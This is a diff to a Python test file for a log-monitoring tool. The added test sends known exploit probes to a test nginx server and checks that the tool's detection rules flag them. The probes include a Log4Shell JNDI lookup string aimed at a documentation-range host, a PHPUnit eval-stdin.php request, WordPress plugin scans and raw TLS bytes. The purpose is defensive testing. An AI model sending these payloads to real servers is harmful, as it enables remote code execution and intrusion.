@@ -4,11 +4,13 @@ monitor's own Googlebot-agent probes not reported while the same claim from else
 
 from __future__ import annotations
 
+import contextlib
 import gzip
 import hashlib
 import json
 import os
 import shutil
+import socket
 import time
 import urllib.error
 import urllib.request
@@ -170,3 +172,56 @@ def test_rotation_archive_retention_and_trusted_probes(lg):
     assert fourth["outputs"]["lines"] == 0
     assert fourth["outputs"]["archived_files"] == []
     assert logged_lines(lg) == total
+
+
+def _request(lg, path: str, method: str = "GET", ua: str = "pn-logs-test/1.0") -> None:
+    court = lg["fleet"].court(COURT)
+    request = urllib.request.Request(
+        f"http://{court.address}{path}", method=method, headers={"Host": court.domain, "User-Agent": ua}
+    )
+    try:
+        with urllib.request.urlopen(request, timeout=10) as response:
+            response.read()
+    except urllib.error.HTTPError as error:
+        error.read()
+
+
+def test_real_attacks_and_the_court_rules_from_the_inventory(lg):
+    """Real exploit requests and TLS bytes sent to the court's nginx, judged on the server with the
+    rule file read on the controller, a rule of the court's own and a rule switched off."""
+    court = lg["fleet"].court(COURT)
+    _request(lg, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST")
+    _request(lg, "/", ua="${jndi:ldap://203.0.113.66:1389/a}")
+    for plugin in ("revslider", "duplicator", "wp-file-manager", "layerslider", "elementor", "wpdiscuz"):
+        _request(lg, f"/wp-content/plugins/{plugin}/readme.txt")
+    for _attempt in range(2):
+        _request(lg, "/sipp/admin/")
+    with socket.create_connection((court.address, 80), timeout=5) as sock:  # TLS to the HTTP port
+        sock.sendall(b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(range(32)))
+        sock.settimeout(5)
+        with contextlib.suppress(OSError):  # nginx answers 400 and closes
+            sock.recv(4096)
+    court_rule = {
+        "id": "court-sipp-admin",
+        "severity": "medium",
+        "messages": {"id": "Admin SIPP diminta: {count}.", "en": "SIPP admin requested: {count}."},
+        "match": {"path": "^/sipp/admin"},
+        "threshold": {"count": 2, "window": 600},
+    }
+    code, output, result = playbook(
+        lg,
+        pn_logs_trust_controller=False,  # these requests come from the controller
+        pn_logs_rules=[court_rule],
+        pn_logs_rule_overrides={"wordpress-plugin-scan": {"enabled": False}},
+    )
+    assert code == 0, output[-3000:]
+    rules = {f["rule"]: f for f in result["findings"]}
+    assert {"exploit-phpunit", "exploit-log4shell", "garbage-request", "court-sipp-admin"} <= set(rules)
+    assert "wordpress-plugin-scan" not in rules
+    assert rules["exploit-log4shell"]["evidence"]["references"][0] == "CVE-2021-44228"
+    assert "\\x16\\x03\\x01" in rules["garbage-request"]["samples"][0]  # nginx's escapes, verbatim
+
+    # A mistake in the court's rules fails that court's task, naming the rule and the field.
+    code, output, _result = playbook(lg, pn_logs_rules=[dict(court_rule, severity="urgent")])
+    assert code != 0
+    assert "'court-sipp-admin', field 'severity'" in output
